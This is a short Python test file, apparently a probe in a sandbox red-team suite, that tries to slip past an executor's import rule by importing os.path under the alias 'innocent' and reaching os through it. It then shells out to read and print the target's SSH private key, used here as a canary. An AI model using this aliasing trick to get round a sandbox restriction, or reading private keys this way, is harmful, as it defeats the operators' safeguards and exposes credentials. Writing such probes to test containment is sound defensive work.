"""Import a forbidden module under another name.

Attempts:  import os by a name below it and by another name.
Success:   the canary key is read with it.
Proof:     canary ssh
Runs:      executor
Executor:  import rule
Container: import rule
"""

import os.path as innocent

print(innocent.os.popen("cat " + target["home"] + "/.ssh/id_ed25519").read())
